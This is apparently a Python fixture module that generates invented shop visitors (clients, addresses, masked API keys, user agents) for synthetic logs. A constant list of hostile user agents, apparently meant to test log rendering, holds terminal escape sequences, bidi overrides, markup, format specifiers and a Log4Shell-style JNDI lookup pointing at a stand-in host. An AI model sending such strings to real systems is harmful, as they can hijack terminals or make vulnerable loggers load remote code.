"""Who visits the shop: customers with their keys, addresses and user agents. All of it invented."""

from __future__ import annotations

import random
from dataclasses import dataclass
from itertools import accumulate
from typing import Final

HOSTILE_SHARE: Final = 0.004
HOSTILE_AGENTS: Final = (
    "\x1b]0;owned by the log\x07Mozilla/5.0",
    "\x1b[2J\x1b[1;1H\x1b[31mcurl/8.5.0",
    "Mozilla/5.0 (compatible; \u202egnp.tacydnah\u202c)",
    "say \"hello\", \\ and 'goodbye'/1.0",
    "[bold red]shop[/]-client/2.0 [link=https://example.org]x[/link]",
    "\x9b5mblink\x9b0m/1.0 \u2066isolated\u2069",
    "{$context.status} %s %n ${jndi:ldap://example.net/a}",
)
"""User agents that try to do something to whoever reads them: escapes, bidi controls, quotes, markup."""


@dataclass(frozen=True, slots=True)
class ApiKey:
    """An API key as logs show it: its last six characters and its ID."""

    last_six: str
    key_id: str

    @property
    def masked(self) -> str:
        """As execution logs print it."""
        return f"{'*' * 34}{self.last_six}"


@dataclass(frozen=True, slots=True)
class Client:
    """One kind of visitor."""

    name: str
    weight: float
    addresses: tuple[str, ...]
    agents: tuple[str, ...]
    key: ApiKey | None = None
    principal: str = "-"

    def address(self, rng: random.Random) -> str:
        """One of its addresses."""
        return self.addresses[int(rng.random() * len(self.addresses))]

    def agent(self, rng: random.Random) -> str:
        """One of its user agents; rarely one that nobody should print."""
        if rng.random() < HOSTILE_SHARE:
            return rng.choice(HOSTILE_AGENTS)
        return self.agents[int(rng.random() * len(self.agents))]


_CHROMIUM: Final = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"
_WEBKIT: Final = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
_BROWSERS: Final = (
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_CHROMIUM}",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_WEBKIT} Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) {_WEBKIT} Mobile/15E148",
)
_HOMES: Final = (
    *(f"198.51.100.{host}" for host in range(16, 212, 3)),
    *(f"2001:db8:{block:x}:{host:x}::1" for block in (0x1A, 0x4C) for host in range(2, 90, 7)),
)
WEB_KEY: Final = ApiKey("mR4tQz", "8d2kq0v7xa")
MOBILE_KEY: Final = ApiKey("Lw9e2B", "3f6hn1s5tz")
ERP_KEY: Final = ApiKey("uX7cKp", "6j0pw4y9eb")
PARTNER_KEY: Final = ApiKey("Yd3gNa", "1c8ru5m2lo")

MOBILE: Final = Client(
    "mobile",
    34,
    _HOMES,
    ("ShopApp/7.4.1 (iOS 18.6)", "ShopApp/7.4.1 (Android 16)"),
    MOBILE_KEY,
    "user|mobile",
)
WEB: Final = Client("web", 38, _HOMES, _BROWSERS, WEB_KEY, "user|web")
ERP: Final = Client("erp", 14, ("203.0.113.24", "203.0.113.25"), ("erp-sync/3.2 httpx/0.28",), ERP_KEY, "service|erp")
PARTNER: Final = Client("partner", 10, ("203.0.113.77",), ("partner-feed/1.9.0",), PARTNER_KEY, "service|partner")
MONITOR: Final = Client("monitor", 4, ("192.0.2.10",), ("uptime-probe/2.1",), None, "-")
STRANGER: Final = Client("stranger", 0, ("192.0.2.199",), ("grabbit/0.3 (+https://example.org/all)",), PARTNER_KEY)
FLOOD: Final = Client("flood", 0, ("203.0.113.25",), ("erp-sync/3.2 httpx/0.28",), ERP_KEY, "service|erp")

REGULARS: Final = (MOBILE, WEB, ERP, PARTNER)
_REGULAR_BOUNDS: Final = tuple(accumulate(client.weight for client in REGULARS))


def regulars(rng: random.Random, count: int) -> list[Client]:
    """Visitors of an ordinary day."""
    return rng.choices(REGULARS, cum_weights=_REGULAR_BOUNDS, k=count)
